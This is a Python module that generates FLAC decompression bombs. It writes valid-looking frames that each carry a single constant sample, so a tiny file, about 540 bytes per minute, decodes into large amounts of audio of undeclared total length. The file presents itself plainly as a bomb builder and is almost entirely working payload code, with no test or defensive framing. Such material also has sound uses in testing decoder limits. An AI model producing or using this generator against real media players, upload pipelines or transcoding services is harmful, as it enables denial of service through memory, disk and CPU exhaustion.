"""Speech that is small on its way and has no end once it is decoded: FLAC whose frames are one number each.

The form is that of RFC 9639.
"""

from __future__ import annotations

from typing import Final

SAMPLE_RATE: Final = 24_000
"""Samples a second."""
FRAME_SAMPLES: Final = 40_000
"""Samples a frame, of which one is written: 15 bytes for 1.67 s."""
_SYNC_FIXED: Final = b"\xff\xf8"
_BLOCK_SIZE_16_BITS: Final = 0b0111
_RATE_24_KHZ: Final = 0b0111
_SIXTEEN_BITS: Final = 0b100
_CONSTANT: Final = b"\x00"
_CRC8: Final = 0x07
_CRC16: Final = 0x8005


def flac_bomb(minutes: int) -> bytes:
    """A hum without a wave, of so many minutes: about 540 bytes each."""
    frames = minutes * 60 * SAMPLE_RATE // FRAME_SAMPLES
    return b"".join((b"fLaC", _stream_info(), *(_frame(number) for number in range(frames))))


def _stream_info() -> bytes:
    """The only block of metadata: no sizes of frames, 16 bits mono, an unknown number of samples, no checksum."""
    form = SAMPLE_RATE << 44 | 0 << 41 | 15 << 36
    block = FRAME_SAMPLES.to_bytes(2) * 2 + bytes(6) + form.to_bytes(8) + bytes(16)
    return b"\x80" + len(block).to_bytes(3) + block


def _frame(number: int) -> bytes:
    head = b"".join(
        (
            _SYNC_FIXED,
            bytes((_BLOCK_SIZE_16_BITS << 4 | _RATE_24_KHZ, _SIXTEEN_BITS << 1)),
            chr(number).encode("utf-8", "surrogatepass"),
            (FRAME_SAMPLES - 1).to_bytes(2),
        )
    )
    frame = head + bytes((_crc(head, _CRC8, 8),)) + _CONSTANT + (1000).to_bytes(2)
    return frame + _crc(frame, _CRC16, 16).to_bytes(2)


def _crc(data: bytes, polynomial: int, bits: int) -> int:
    value, top = 0, 1 << (bits - 1)
    for byte in data:
        value ^= byte << (bits - 8)
        for _ in range(8):
            value = (value << 1 ^ polynomial if value & top else value << 1) & ((1 << bits) - 1)
    return value
